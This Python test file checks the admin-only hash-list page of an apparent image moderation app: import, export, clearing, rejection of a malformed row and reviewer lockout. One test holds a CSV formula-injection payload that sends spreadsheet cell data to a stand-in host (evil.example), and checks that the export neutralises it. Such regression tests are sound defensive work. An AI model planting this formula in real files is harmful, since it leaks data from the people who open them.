"""The hash lists page (admins only), run headless with Streamlit's AppTest: import, export, clear,
a malformed list refused naming the row, and nothing for a reviewer (issue 17, point 3)."""

from __future__ import annotations

import csv
import hashlib
import io
import re

import pytest
from streamlit.testing.v1 import AppTest

from nsfw_core.context import current
from nsfw_core.state.known import parse_list
from tests.helpers.pages import new_context
from tests.helpers.paths import ROOT
from tests.helpers.signin import ADMIN, REVIEWER, signed_in

PAGE = str(ROOT / "pages" / "lists.py")
SHA = hashlib.sha256(b"listed").hexdigest()
PDQ = "ab" * 32
GOOD = f"sha256,pdq,label,note\n{SHA},,deny,known bad\n,{PDQ},allow,our logo\n".encode()


@pytest.fixture
def data_dir(tmp_path, monkeypatch):
    monkeypatch.delenv("NSFW_DATABASE_URL", raising=False)
    monkeypatch.setenv("NSFW_DATA_DIR", str(tmp_path))
    new_context()
    yield tmp_path
    new_context()


def run(at: AppTest) -> AppTest:
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def texts(elements) -> str:
    """The elements' text with the page's markdown escapes removed."""
    return re.sub(r"\\(.)", r"\1", "\n".join(e.value for e in elements))


def test_an_admin_imports_exports_and_clears_a_list(data_dir):
    at = run(signed_in(AppTest.from_file(PAGE, default_timeout=60), ADMIN))
    at.file_uploader(key="lists_upload").set_value(("list.csv", GOOD, "text/csv"))
    run(at)
    at.button(key="lists_import").click()
    run(at)
    assert "Imported 2 entries from list.csv" in texts(at.success)
    assert parse_list(current().known.export_list()) == parse_list(GOOD)
    match = current().known.lookup(SHA, None)
    assert match is not None and match.verdict == "adult" and match.kind == "list"
    assert "2 list entries" in texts(at.caption)
    at.button(key="lists_clear").click()
    run(at)
    assert "2 entries removed" in texts(at.success)
    assert current().known.lookup(SHA, None) is None


def test_a_malformed_list_is_refused_naming_the_row(data_dir):
    at = run(signed_in(AppTest.from_file(PAGE, default_timeout=60), ADMIN))
    bad = GOOD + b"nothex,,deny,\n"
    at.file_uploader(key="lists_upload").set_value(("bad.csv", bad, "text/csv"))
    run(at)
    at.button(key="lists_import").click()
    run(at)
    assert "row 4: 'nothex' is not a sha256" in texts(at.error)
    assert current().known.export_list() == "sha256,pdq,label,note\n"  # nothing imported


def test_a_reviewer_gets_nothing(data_dir):
    at = run(signed_in(AppTest.from_file(PAGE, default_timeout=60), REVIEWER))
    assert "needs signing in with the right role" in texts(at.warning)
    assert not [b for b in at.button if b.key in ("lists_import", "lists_clear")]


def test_the_exported_list_writes_a_formula_note_as_text(data_dir, media):
    """Issue 29, point 7: a note such as =HYPERLINK(...) was written verbatim into the CSV (it ran in the admin's
    spreadsheet); it is written with a leading apostrophe, and read back as it was."""
    from nsfw_core.base.spreadsheet import unescape

    note = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    listed = f'sha256,pdq,label,note\n{SHA},,deny,"{note.replace(chr(34), chr(34) * 2)}"\n'.encode()
    at = run(signed_in(AppTest.from_file(PAGE, default_timeout=60), ADMIN))
    at.file_uploader(key="lists_upload").set_value(("list.csv", listed, "text/csv"))
    run(at)
    at.button(key="lists_import").click()
    run(at)
    (button,) = at.get("download_button")
    text = media(button.proto.url).decode()
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["note"] == "'" + note and unescape(row["note"]) == note
    assert [e.note for e in parse_list(text)] == [note]  # an export imports as it was
